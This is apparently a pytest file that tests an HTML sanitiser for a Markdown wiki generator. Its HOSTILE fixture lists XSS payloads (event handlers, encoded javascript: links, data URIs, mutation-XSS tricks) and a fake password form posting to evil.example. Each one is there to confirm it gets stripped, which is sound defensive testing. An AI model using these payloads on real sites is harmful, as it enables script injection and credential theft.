"""A note's body on its page: raw HTML as GitHub shows it (harmless tags kept, comments dropped,
anything that runs code removed, whatever the checker said), headings under the page's title,
and lists apart from paragraphs."""

from __future__ import annotations

import datetime as dt
import re
from collections.abc import Callable
from html.parser import HTMLParser

import markdown
import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.config import Settings
from generator.model import Area, Note, Wiki
from generator.notes.body import (
    ATTRIBUTES,
    TAGS,
    URL_SCHEMES,
    clean_html,
    fit_headings,
    for_markdown,
    loosen_lists,
    may_hold_html,
)
from generator.notes.scan import without_html
from generator.site import pages
from tests.test_scan import EXTENSIONS, PIECES, PROPERTY, html_dangers

# Python-Markdown as the sample wiki configures it in MkDocs.
CONFIGS = {"toc": {"permalink": True}}
WITH_FOOTNOTES = [*EXTENSIONS, "footnotes"]
URL_ATTRIBUTES = {"href", "src"}


def rendered(body: str) -> str:
    """The HTML a body's page gets: prepared, converted by Python-Markdown, sanitised."""
    prepared = for_markdown(body)
    html = markdown.markdown(prepared, extensions=WITH_FOOTNOTES, extension_configs=CONFIGS)
    return clean_html(html) if may_hold_html(prepared) else html


class _Outside(HTMLParser):
    """Everything in HTML that the allowlist does not allow."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set())
        for name, value in attrs:
            if name not in allowed:
                self.found.append(f"<{tag} {name}=>")
            scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", value or "")
            if name in URL_ATTRIBUTES and scheme and scheme.group(1).lower() not in URL_SCHEMES:
                self.found.append(f"<{tag} {name}={value}>")
            if name == "class" and "md-" in (value or ""):
                self.found.append(f"<{tag} class={value}>")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")


def outside_allowlist(html: str) -> list[str]:
    parser = _Outside()
    parser.feed(html)
    parser.close()
    return parser.found


HTML_PIECES = [
    "<details>", "<details open>", "</details>", "<summary>", "</summary>", "<svg>", "</svg>",
    "<svg><script>alert(1)</script></svg>", "<style>", "</style>", "<iframe>", "<math>",
    "<img src=data:image/png;base64,x>", '<a href="data:text/html,x">', "<noscript>",
    "</noscript>", '<p title="', "<!--insights-fragment-1-->", "<plaintext>", "<textarea>",
    '<div class="md-header x">', '<td style="position:fixed">', "<form>", "<input>", "&lt;",
    "<!", "<?", "]]>", "<![CDATA[", "<table>", "<tr>", "<td>", "</td>", "- x\n", "[^1]",
    "[^1]: ", "!!! note\n    ",
]  # fmt: skip
html_bodies = st.lists(st.sampled_from(PIECES + HTML_PIECES), max_size=30).map("".join)


@PROPERTY
@given(html_bodies)
def test_a_page_keeps_nothing_outside_the_allowlist(body: str) -> None:
    assert outside_allowlist(rendered(body)) == [], body


@PROPERTY
@given(html_bodies)
def test_a_page_the_sanitiser_skips_runs_no_script(body: str) -> None:
    prepared = for_markdown(body)
    if not may_hold_html(prepared):
        html = markdown.markdown(prepared, extensions=WITH_FOOTNOTES)
        assert html_dangers(html) == [], body


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("plain words, JavaScript: too", "plain words, JavaScript: too"),
        ("<b>bold</b> <br> <details>", '<b>bold</b> <br> <details>\n\n</details>'),
        ("`<b>` and\n```\n<b>\n```", "`<b>` and\n```\n<b>\n```"),
        ("a <!-- hidden --> b", "a  b"),
        ("<!-- ## User needs\nhidden\n-->\nshown", "\nshown"),
        ("`<!-- code -->` <!-- gone -->", "`<!-- code -->` "),
        ("<!-- never closed\nshown", "&lt;!-- never closed\nshown"),
        ("<!DOCTYPE html> <?php x ?>", "&lt;!DOCTYPE html> &lt;?php x ?>"),
        ('<p title="<!--insights-fragment-2-->">x</p>', '<p title="">x</p>'),
        ("[x](javascript:alert(1))", "[x](#javascript:alert(1))"),
        ("[x]: &#106;avascript:y", "[x]: #&#106;avascript:y"),
        ("<!-- [x](javascript:y) -->", ""),
        ("Title {: onclick=x }", "Title \\{: onclick=x }"),
        ("<https://example.com>", "<https://example.com>"),
        ("<details>\n<summary>S</summary>\n\n- x\n\n</details>",
         '<details markdown="1">\n<summary>S</summary>\n\n- x\n\n</details>'),
        ('<details markdown="block">', '<details markdown="block">\n\n</details>'),
        ("<div>\n<div>x</div>\n\ntext", "<div>\n<div>x</div>\n\ntext\n\n</div>"),
        ("<div><p>a</div>", "<div><p>a</div>\n\n</p>"),
        ("<div><section><div>a</div>", "<div><section><div>a</div>\n\n</section>\n\n</div>"),
        ("<br/><hr><img src=x><div/>", "<br/><hr><img src=x><div/>"),
    ],
)  # fmt: skip
def test_for_markdown(body: str, expected: str) -> None:
    assert for_markdown(body) == expected


def test_code_renders_as_written() -> None:
    html = rendered("Type `<b>` to bold.\n\n```html\n<!-- c -->\n<i>x</i>\n```\n")
    assert "<code>&lt;b&gt;</code>" in html
    assert "&lt;!-- c --&gt;\n&lt;i&gt;x&lt;/i&gt;" in html


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("<b>As a user</b> I want<br>it", " As a user  I want it"),
        ("<!-- ## User needs\nhidden -->\nshown", " \nshown"),
        ("a <script>var x = 1;</script> b <style>p {}</style> c", "a   b   c"),
        ("`<b>` and\n```\n<i>\n```", "`<b>` and\n```\n<i>\n```"),
        ('<img src="a.png" alt="chart"> x < y', "  x < y"),
        ("no html at all", "no html at all"),
    ],
)
def test_without_html(body: str, expected: str) -> None:
    assert without_html(body) == expected


@pytest.mark.parametrize(
    "body",
    [
        "<!--" * 250_000,
        "<!-- -->" * 120_000,
        "<div>" * 200_000,
        "</div>" * 160_000,
        "<div>" * 60_000 + "<p>" * 60_000 + "</div>" * 60_000,
        "<details>\n" * 100_000,
        "<script>" * 120_000,
        "<a " * 300_000,
        "{<" * 400_000,
        "[x](javascript:y) <b>" * 40_000,
    ],
    ids=lambda body: repr(body[:12]),
)
def test_hostile_bodies_are_prepared_in_bounded_time(body: str) -> None:
    for_markdown(body)
    without_html(body)


# The page of a note, as the build makes it

AREA = Area("billing", "Billing")


def body_html(body: str) -> str:
    """The part of a note's built page that holds its body and what follows it."""
    note = Note(
        id="n", path="insights/billing/n.md", title="A finding", date=dt.date(2026, 6, 1),
        area="billing", source="interview", body=body,
    )  # fmt: skip
    ctx = pages.SiteContext(Wiki((note,), (AREA,), checked=1), Settings(), dt.date(2026, 6, 30))
    page = pages.insight_page(ctx, note)
    html = markdown.markdown(page.markdown, extensions=WITH_FOOTNOTES, extension_configs=CONFIGS)
    spliced = page.splice(html)
    return spliced[spliced.index('<div class="insight-body">') :]


HARMLESS = """\
<!-- ## User needs
Draft notes nobody should see.
-->
<b>As a user</b>, I want <i>one</i> invoice<br>a month, <em>not</em> <strong>four</strong>.
H<sub>2</sub>O and x<sup>2</sup>; press <kbd>Ctrl</kbd>+<kbd>K</kbd>; <mark>marked</mark>,
<s>struck</s>, <u>underlined</u>, <abbr title="Annual recurring revenue">ARR</abbr>.

<p align="center"><img src="chart.png" alt="Invoices per month" width="400"></p>

<details>
<summary>Interview notes (<b>3</b>)</summary>

- Finance closes the books on the **fifth**.
- "We reconcile by hand."

</details>

<table>
  <thead><tr><th>Plan</th><th align="right">Seats</th></tr></thead>
  <tbody><tr><td>Team</td><td align="right">12</td></tr></tbody>
</table>

| Markdown | table |
|:--|--:|
| left | right |

!!! note "An admonition"
    Still works, as does a [link](https://example.com/pricing) and <a href="../other/">one</a>.

## So what

A footnote[^1], and `<b>code</b>` stays as written.

[^1]: With <i>inline</i> HTML.
"""

HOSTILE = """\
Event attributes: <img src="chart.png" onerror="alert(1)" alt="chart">
<b onmouseover="alert(2)">bold</b> <p/onclick=alert(3)>p</p>

<a href="javascript:alert(4)">js</a> <a href="JaVaScRiPt&colon;alert(5)">encoded</a>
<a href=" java&#x09;script:alert(6)">tab</a> [md](javascript:alert(7))

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==">data</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOSk+">

<style>body { display: none }</style>
<iframe src="https://evil.example/" srcdoc="<script>alert(10)</script>"></iframe>
<svg><script>alert(11)</script><circle r="1"/></svg>
<svg onload="alert(12)"><a xlink:href="javascript:alert(13)"><text>x</text></a></svg>
<script>alert(14)</script>
<object data="x.swf"></object><embed src="x.swf"><base href="https://evil.example/">
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<div class="md-dialog md-header" style="position:fixed;inset:0">overlay</div>
<noscript><p title="</noscript><img src=x onerror=alert(15)>"></p></noscript>
<math><mtext><table><mglyph><style><img src=x onerror=alert(16)></style></mglyph>
</table></mtext></math>
<!--insights-fragment-2--> a forged marker, and
<p title="<!--insights-fragment-3-->">one in an attribute</p>
A paragraph.
{: onclick="alert(17)" }
<div>never closed
"""


@pytest.mark.parametrize(("name", "body"), [("harmless", HARMLESS), ("hostile", HOSTILE)])
def test_golden_html(name: str, body: str, golden: Callable[[str, str], None]) -> None:
    html = body_html(body)
    golden(f"html/{name}.html", html)
    assert outside_allowlist(html.split('<p class="insight-path">')[0]) == []
    assert html_dangers(html) == []


def test_harmless_html_is_kept() -> None:
    html = body_html(HARMLESS)
    for kept in ("<b>As a user</b>", "<br>", "<sup>2</sup>", "<kbd>Ctrl</kbd>",
                 '<p align="center"><img src="chart.png"', "<summary>Interview notes (<b>3</b>)",
                 "<li>Finance closes the books on the <strong>fifth</strong>.</li>",
                 '<th align="right">Seats</th>', '<td style="text-align:right">right</td>',
                 '<div class="admonition note">', "<code>&lt;b&gt;code&lt;/b&gt;</code>",
                 '<a class="headerlink" href="#so-what"', '<sup id="fnref:1">'):  # fmt: skip
        assert kept in html, kept
    assert "User needs" not in html and "<!--" not in html


def test_a_note_cannot_move_the_page_s_own_markup() -> None:
    html = body_html(HOSTILE)
    assert html.count('<div class="insight-body">') == 1
    assert html.index("never closed") < html.index('<p class="insight-path">')


def test_only_a_page_with_raw_html_is_sanitised() -> None:
    note = Note(id="n", path="insights/billing/n.md", title="T", date=dt.date(2026, 6, 1),
                area="billing", source="interview", body="Plain *words*.")  # fmt: skip
    ctx = pages.SiteContext(Wiki((note,), (AREA,), checked=1), Settings(), dt.date(2026, 6, 30))
    assert not pages.insight_page(ctx, note).untrusted
    other = Note(**{**vars(note), "body": "<b>bold</b>"})
    assert pages.insight_page(ctx, other).untrusted


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        # A write-up that opens with its title: the repeat goes, the sections stay.
        ("# Diary study\n\n## Method\nText.\n", "\n\n## Method\nText.\n"),
        ("\n#  diary STUDY #\nText.\n", "\n\nText.\n"),  # case, spaces and closing #s aside
        # Its own top-level headings move one level down, under the page's title.
        (
            "Intro.\n# Findings\n## Detail\n###### Six\n",
            "Intro.\n## Findings\n### Detail\n###### Six\n",
        ),
        ("# Other title\n## Sub\n", "## Other title\n### Sub\n"),
        # Nothing to do: no top-level heading, a #hashtag, code.
        ("## What we heard\nText.\n", "## What we heard\nText.\n"),
        ("#hashtag is not a heading\n", "#hashtag is not a heading\n"),
        (
            "```\n# a comment in code\n```\n## So what\n",
            "```\n# a comment in code\n```\n## So what\n",
        ),
        # Underlined (setext) headings, as pandoc writes them, count the same.
        ("Diary study\n===========\n\nMethod\n------\nText.\n", "\n\n\n## Method\n\nText.\n"),
        ("Findings\n========\n\nText.\n", "## Findings\n\n\nText.\n"),
        ("Text.\n\n---\n\nMore.\n", "Text.\n\n---\n\nMore.\n"),  # a rule, not a heading
        ("Text\nmore text\n===\n", "Text\nmore text\n===\n"),  # not at a block's start
    ],
)
def test_fit_headings(body: str, expected: str) -> None:
    assert fit_headings(body, "Diary study") == expected


def test_fit_headings_drops_a_heading_the_title_extends() -> None:
    assert fit_headings("# Diary study\nText.\n", "Diary study (n=12)") == "\nText.\n"


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("Things that would help:\n- one\n- two\n", "Things that would help:\n\n- one\n- two\n"),
        ("**Numbers.**\n1. one\n2) two\n", "**Numbers.**\n\n1. one\n2) two\n"),
        ("A paragraph\nof two lines\n* item\n", "A paragraph\nof two lines\n\n* item\n"),
        # Left alone: lists already apart, tight lists, quotes, tables, code, headings.
        ("Intro.\n\n- one\n", "Intro.\n\n- one\n"),
        ("- one\n- two\n  more of two\n- three\n", "- one\n- two\n  more of two\n- three\n"),
        ("> a quote\n- in it\n", "> a quote\n- in it\n"),
        ("| a | b |\n- x\n", "| a | b |\n- x\n"),
        ("```\ntext\n- x\n```\n", "```\ntext\n- x\n```\n"),
        ("    code\n- x\n", "    code\n- x\n"),
        ("## Heading\n- x\n", "## Heading\n- x\n"),
        ("A range 2025\n-2026 is not a list\n", "A range 2025\n-2026 is not a list\n"),
    ],
)
def test_loosen_lists(body: str, expected: str) -> None:
    assert loosen_lists(body) == expected


def test_a_list_right_under_a_paragraph_renders_as_a_list() -> None:
    html = markdown.markdown(loosen_lists("Things that would help:\n- one\n- two\n"))
    assert "<li>one</li>" in html and "<li>two</li>" in html
